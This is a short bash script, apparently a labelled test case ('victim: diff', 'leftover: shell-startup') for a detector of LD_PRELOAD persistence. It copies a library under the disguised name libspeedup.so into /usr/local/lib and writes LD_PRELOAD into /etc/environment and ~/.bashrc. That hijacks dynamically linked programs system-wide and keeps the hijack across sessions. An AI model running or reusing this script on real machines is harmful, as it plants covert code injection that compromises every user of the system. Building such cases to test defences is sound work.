#!/bin/bash
# report: 4
# victim: diff
# leftover: shell-startup
# needs: preload.so
# naive: -
# The same by a variable.
cp "$(dirname "$0")/preload.so" /usr/local/lib/libspeedup.so
export LD_PRELOAD=/usr/local/lib/libspeedup.so
echo 'LD_PRELOAD=/usr/local/lib/libspeedup.so' >> /etc/environment
echo 'export LD_PRELOAD=/usr/local/lib/libspeedup.so' >> ~/.bashrc
